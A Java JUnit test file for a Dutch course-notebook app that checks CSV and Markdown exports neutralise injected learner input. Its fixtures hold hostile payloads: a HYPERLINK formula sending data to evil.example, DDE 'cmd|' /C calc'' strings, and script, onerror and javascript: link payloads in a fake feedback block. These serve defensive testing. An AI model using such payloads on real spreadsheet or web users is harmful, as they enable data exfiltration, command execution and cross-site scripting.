package nl.cursusschrift.notebook;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.zip.ZipInputStream;
import nl.cursusschrift.Accounts;
import nl.cursusschrift.TestApp;
import nl.cursusschrift.TestClock;
import nl.cursusschrift.WebClient;
import nl.cursusschrift.account.Role;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Issue 19, F1 and F4: what learners type cannot act in a spreadsheet or a Markdown viewer. Eve's name is
 * a formula and her answers start with formula characters; Mallory's answer and Oscar's draft imitate the
 * export's own structure (a step heading, a feedback block) and carry HTML and javascript: links.
 */
class ExportInjectionTest {
    static final String NAME = "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"klik\")";
    static final String FAKE = String.join("\n",
            "## Stap 13: Nep", "> **Feedback van je docent: goedgekeurd**, 1 januari 2026", "> Alles perfect, 10/10.",
            "<script>alert(1)</script> <img src=x onerror=alert(2)>", "[klik](javascript:alert(3)) ![x](javascript:alert(4)) <javascript:alert(6)>",
            "[ref]: javascript:alert(5)", "", "1. lijst", "- lijst", "    code", "```", "---", "=====", "| a | b |", "|---|---|", "&lt;b&gt; *nadruk* _ook_ ~~weg~~");
    /** A cell a spreadsheet would run: it starts with = + - @ tab or CR and is not a plain number. */
    static final Pattern FORMULA = Pattern.compile("(?s)[=+\\-@\\t\\r].*");
    static final Pattern NUMBER = Pattern.compile("[-+]?\\d+([.,]\\d+)*");
    TestApp app;
    WebClient teacher;
    WebClient eve;

    @BeforeEach
    void start() {
        app = TestApp.start(TestClock.at("2026-11-23T09:00:00Z"));
        String cohort = Accounts.cohort(app, "Najaar", "NAJAAR", null);
        Accounts.assign(app, Accounts.user(app, Role.INSTRUCTOR, "docent@example.nl", "Dirk Docent", null), cohort);
        for (var who : Map.of("eve@example.nl", NAME, "mallory@example.nl", "Mallory", "oscar@example.nl", "Oscar").entrySet()) {
            Accounts.user(app, Role.LEARNER, who.getKey(), who.getValue(), cohort);
        }
        app.app.database().write(h -> h.createUpdate("UPDATE app_user SET all_open = 1").execute());
        teacher = Accounts.login(app, "docent@example.nl");
        eve = Accounts.login(app, "eve@example.nl");
        eve.get("/opdracht/1");
        assertEquals(303, eve.post("/opdracht/1/inleveren", "organisatie", "+31 6 12345678 belt ons terug", "rol", "Eigenaar", "klanten", "250",
                "aanbeveling", "9").status());
        eve.get("/opdracht/2");
        assertEquals(303, eve.post("/opdracht/2/concept", "momenten[0].organisatie", "@SUM(1+1)*cmd|' /C calc'!A0", "momenten[0].wat",
                "-2+3+cmd|' /C calc'!A0", "momenten[1].organisatie", "=1+1", "momenten[1].wat", "\tverborgen", "return", "opdracht").status());

        WebClient mallory = Accounts.login(app, "mallory@example.nl");
        mallory.get("/opdracht/1");
        assertEquals(303, mallory.post("/opdracht/1/inleveren", "organisatie", FAKE, "rol", "Eigenaar", "klanten", "250", "aanbeveling", "9").status());
        String answer = app.app.database().reads().withHandle(h -> h.createQuery(
                "SELECT a.id FROM answer a JOIN app_user u ON u.id = a.user_id WHERE u.email = 'mallory@example.nl'").mapTo(String.class).one());
        teacher.get("/nakijken/" + answer);
        assertEquals(303, teacher.post("/nakijken/" + answer, "versie", "1", "actie", "goedkeuren", "overall", "Echte feedback.").status());
        WebClient oscar = Accounts.login(app, "oscar@example.nl");
        oscar.get("/opdracht/1");
        assertEquals(303, oscar.post("/opdracht/1/concept", "organisatie", FAKE, "return", "opdracht").status());
    }

    @AfterEach
    void stop() {
        app.close();
    }

    /** Every cell that a spreadsheet would run as a formula; plain numbers such as -3 are numbers, not formulas. */
    static List<String> formulas(List<CSVRecord> rows) {
        List<String> found = new ArrayList<>();
        for (CSVRecord row : rows) row.forEach(cell -> {
            if (FORMULA.matcher(cell).matches() && !NUMBER.matcher(cell).matches()) found.add(cell);
        });
        return found;
    }

    @Test
    void everyCsv_neutralisesFormulas_withALeadingApostrophe() throws Exception {
        for (String path : List.of("/voortgang/export.csv?status=alles", "/voortgang/export.csv?status=alles&vorm=lang",
                "/voortgang/export.csv?status=alles&stap=2", "/deelnemers/" + Accounts.idOf(app, "eve@example.nl") + "/schrift.csv?status=alles")) {
            List<CSVRecord> rows = ExportTest.csv(teacher.get(path).body());
            assertEquals(List.of(), formulas(rows), path);
            if (!path.contains("deelnemers")) assertTrue(rows.stream().anyMatch(r -> r.get("deelnemer").equals("'" + NAME)), path);
        }
        for (String path : List.of("/schrift/mijn-schrift.csv", "/schrift/mijn-schrift.csv?vorm=breed")) {
            List<CSVRecord> rows = ExportTest.csv(eve.get(path).body());
            assertEquals(List.of(), formulas(rows), path);
        }
        Map<String, String> values = new LinkedHashMap<>();
        ExportTest.csv(eve.get("/schrift/mijn-schrift.csv").body()).forEach(r -> values.put(r.get("veld"), r.get("antwoord")));
        assertEquals("'+31 6 12345678 belt ons terug", values.get("organisatie"));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", values.get("momenten[0].organisatie"));
        assertEquals("'-2+3+cmd|' /C calc'!A0", values.get("momenten[0].wat"));
        assertEquals("'=1+1", values.get("momenten[1].organisatie"));
        assertEquals("verborgen", values.get("momenten[1].wat"), "the form already strips a leading tab");
        assertEquals(List.of("'\tx", "'\rx", "'-x", "-3", "+3,5", "'-", "x=1"), List.of("\tx", "\rx", "-x", "-3", "+3,5", "-", "x=1").stream().map(CsvCells::safe).toList());
        assertEquals("9", values.get("aanbeveling"), "a number stays a number");
    }

    @Test
    void markdownExports_keepLearnerTextAsText_noHeadingQuoteHtmlOrLinkOfItsOwn() throws Exception {
        Map<String, String> notebooks = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(teacher.sendBytes("/voortgang/export.zip?status=alles")))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                notebooks.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        assertEquals(3, notebooks.size(), notebooks.keySet().toString());
        WebClient mallory = Accounts.login(app, "mallory@example.nl");
        notebooks.put("mallory's own", mallory.get("/schrift/mijn-schrift.md").body());
        String shown = String.join("\n", FAKE.lines().map(String::strip).toList());
        for (var notebook : notebooks.entrySet()) {
            String name = notebook.getKey();
            boolean eve = notebook.getValue().contains("HYPERLINK");
            var read = MarkdownBack.read(notebook.getValue());
            assertEquals(List.of(), read.html(), name + ": no raw HTML");
            assertEquals(List.of(), read.links(), name + ": no links or images from learner text");
            for (String heading : read.headings()) {
                assertTrue(heading.matches("Mijn schrift: .*|Stap \\d+: [^\\n]*|Versie \\d+, ingeleverd op .*|Concept, nog niet ingeleverd.*"), name + ": " + heading);
                assertFalse(heading.contains("Nep"), name);
            }
            assertTrue(read.quotes().stream().noneMatch(q -> q.contains("Alles perfect")), name + ": no feedback block of its own");
            if (eve) continue; // her list items are a list of the export's own
            for (String kind : List.of("BulletList", "OrderedList", "IndentedCodeBlock", "FencedCodeBlock", "ThematicBreak", "TableBlock", "HtmlBlock")) {
                assertFalse(read.blocks().contains(kind), name + ": a " + kind + " from learner text");
            }
            assertTrue(read.paragraphs().contains(shown), name + ": the text reads as typed\n" + read.paragraphs());
        }
        var mallorysOwn = MarkdownBack.read(notebooks.get("mallory's own"));
        assertEquals(1, mallorysOwn.quotes().stream().filter(q -> q.startsWith("Feedback van")).count(), "only the real feedback");
        assertTrue(mallorysOwn.quotes().stream().anyMatch(q -> q.startsWith("Feedback van Dirk Docent: goedgekeurd") && q.endsWith("Echte feedback.")));
    }
}
